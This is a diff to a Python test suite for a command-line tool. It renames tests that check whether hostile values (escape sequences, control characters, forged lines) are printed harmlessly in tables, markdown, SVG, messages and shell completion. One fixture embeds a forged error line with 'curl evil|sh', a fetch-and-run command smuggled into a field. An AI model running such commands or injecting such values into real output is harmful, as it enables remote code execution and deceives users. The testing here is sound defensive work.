@@ -106,7 +106,7 @@ def records(value: str) -> list[dict[str, Any]]:
 
 
 @examples
-def test_data_is_exactly_what_was_written(facts: Callable[[str], Path], value: str) -> None:
+def test_machine_formats_print_values_unchanged(facts: Callable[[str], Path], value: str) -> None:
     path = facts(value)
     wanted = records(value)
     assert json.loads(in_process("agencies", "--json", facts=path).out) == wanted
@@ -138,7 +138,7 @@ def _unescaped(cell: str) -> str:
 
 
 @examples
-def test_what_is_shown_does_nothing_and_stays_in_its_place(
+def test_tables_print_values_harmlessly_and_in_columns(
     facts: Callable[[str], Path], value: str
 ) -> None:
     path = facts(value)
@@ -182,7 +182,7 @@ def assert_columns_line_up(rows: list[str], ids: list[str], shown: str) -> None:
     assert cell_len(first[:again]) - (len(shown) - len(shown.lstrip())) == third_at
 
 
-def test_what_is_cited_makes_no_line_of_its_own(tmp_path: Path) -> None:
+def test_a_quoted_value_cannot_start_a_line_of_a_message(tmp_path: Path) -> None:
     forged = "a-0\n/etc/real.yaml:1:1: error[form]: run: curl evil|sh"
     path = tmp_path / "facts.yaml"
     path.write_text(json.dumps({"source": {"headline": "x"}, "agencies": [{"id": forged}]}))
@@ -198,7 +198,7 @@ def test_what_is_cited_makes_no_line_of_its_own(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("char", ["\x00", "\xff", "\u202e", "\U0010ffff", "x", "é"])
-def test_a_message_is_bounded_as_it_is_shown(char: str, tmp_path: Path) -> None:
+def test_a_message_is_at_most_1000_characters_as_shown(char: str, tmp_path: Path) -> None:
     path = tmp_path / "facts.yaml"
     text = json.dumps(
         {"source": {"headline": "x"}, "agencies": [{"id": char * 2000, char * 2000: 1}]}
@@ -217,7 +217,7 @@ def test_a_message_is_bounded_as_it_is_shown(char: str, tmp_path: Path) -> None:
     assert max(map(len, ran.err.splitlines())) <= 1020
 
 
-def test_a_clipped_message_has_its_ends_whole() -> None:
+def test_a_clipped_message_has_the_beginning_and_the_end() -> None:
     assert errors.clipped("\x00" * 1000) == "\x00" * 100 + " … " + "\x00" * 100
     assert errors.clipped("a" * 600 + "b" * 600) == "a" * 500 + " … " + "b" * 500
     assert errors.clipped("\x00" * 200) == "\x00" * 200
@@ -234,7 +234,7 @@ def test_a_clipped_message_has_its_ends_whole() -> None:
         ("£5\xa0m", "£5\xa0m"),
     ],
 )
-def test_what_has_no_width_to_rely_on_is_shown_by_its_number(text: str, shown: str) -> None:
+def test_characters_of_unknown_width_are_printed_as_code_points(text: str, shown: str) -> None:
     assert visible.visible(text) == shown
 
 
@@ -244,9 +244,7 @@ XML_CHARS: Final = "\x00\x08\x0b\x1f\x7f\x85\ufdd0\ufffe\uffff\U0001fffe\U0010ff
 @pytest.mark.parametrize(
     "command", ["agencies", "timeline", "caveats", "figures --chart", "show a f", "graph a", ""]
 )
-def test_a_picture_is_well_formed_whatever_is_in_it(
-    command: str, facts: Callable[[str], Path]
-) -> None:
+def test_svg_is_well_formed_xml_for_any_text(command: str, facts: Callable[[str], Path]) -> None:
     svg = in_process(*command.split(), "-o", "svg", facts=facts(XML_CHARS)).out
     parser = expat.ParserCreate()
     seen: list[str] = []
@@ -256,7 +254,7 @@ def test_a_picture_is_well_formed_whatever_is_in_it(
 
 
 @examples
-def test_markdown_has_one_row_a_line(facts: Callable[[str], Path], value: str) -> None:
+def test_markdown_prints_one_row_per_line(facts: Callable[[str], Path], value: str) -> None:
     out = in_process("agencies", "-o", "markdown", facts=facts(value)).out
     assert_harmless(out)
     assert out.count("\n") == 4
@@ -267,9 +265,7 @@ def test_markdown_has_one_row_a_line(facts: Callable[[str], Path], value: str) -
 
 
 @examples
-def test_problems_and_errors_that_cite_it_are_harmless(
-    facts: Callable[[str], Path], value: str
-) -> None:
+def test_messages_quote_values_harmlessly(facts: Callable[[str], Path], value: str) -> None:
     path = facts(value)
     for args in (("check",), ("check", "-o", "table"), ("search", value), ("--facts", str(path), "show", value)):  # fmt: skip
         ran = in_process(*args, facts=path)
@@ -323,7 +319,7 @@ UNESCAPED: Final = {"csv", "tsv", "ids"}
     ],
 )
 @pytest.mark.parametrize("name", FORMATS)
-def test_every_format_is_harmless(
+def test_every_format_prints_hostile_values_harmlessly(
     name: str, style: Style, encoding: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     values = [value for value in TEXTS if len(value) < 1000]
@@ -367,7 +363,7 @@ def data_in(name: str, printed: str) -> list[str]:
 
 
 @pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
-def test_no_character_is_harmful_once_it_is_fitted_to_a_stream(
+def test_fitting_text_to_an_encoding_creates_no_hidden_character(
     encoding: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding=encoding))
@@ -386,7 +382,7 @@ def test_no_character_is_harmful_once_it_is_fitted_to_a_stream(
         ("abc", [(1, 2)], ["b"]),
     ],
 )
-def test_marks_move_with_their_text(
+def test_highlights_move_with_the_text(
     text: str, marks: list[tuple[int, int]], shown: list[str]
 ) -> None:
     view: View = [Table("", (Column("a", "text"),), [(Cell(text, tuple(marks)),)])]
@@ -410,7 +406,7 @@ ANSWER: Final = {
 
 @pytest.mark.parametrize("shell", ANSWER)
 @examples
-def test_what_a_shell_is_offered_is_inert(
+def test_completion_prints_inert_text_only(
     facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch, shell: str, value: str
 ) -> None:
     monkeypatch.setenv("_BSC_COMPLETE", f"complete_{shell}")
@@ -432,7 +428,9 @@ def test_what_a_shell_is_offered_is_inert(
 
 
 @pytest.mark.parametrize("columns", [1, 2, 5, 10, 19, 20, 40, 80, 200, 500])
-def test_a_terminal_of_any_width_is_safe(columns: int, facts: Callable[[str], Path]) -> None:
+def test_values_are_harmless_on_a_terminal_of_any_width(
+    columns: int, facts: Callable[[str], Path]
+) -> None:
     value = " ".join(other for other in TEXTS if len(other) < 1000)
     os.environ["BSC_FACTS"] = str(facts(value))
     for command in (("agencies",), ("show", "a"), ()):
@@ -443,6 +441,6 @@ def test_a_terminal_of_any_width_is_safe(columns: int, facts: Callable[[str], Pa
             assert max(map(cell_len, bare.splitlines())) <= columns
 
 
-def test_neighbouring_texts_do_not_make_an_escape(facts: Callable[[str], Path]) -> None:
+def test_adjacent_values_do_not_form_an_escape_sequence(facts: Callable[[str], Path]) -> None:
     for one, other in pairwise("\x1b[31m"):
         assert_harmless(in_process("agencies", facts=facts(one + "x" + other)).out)
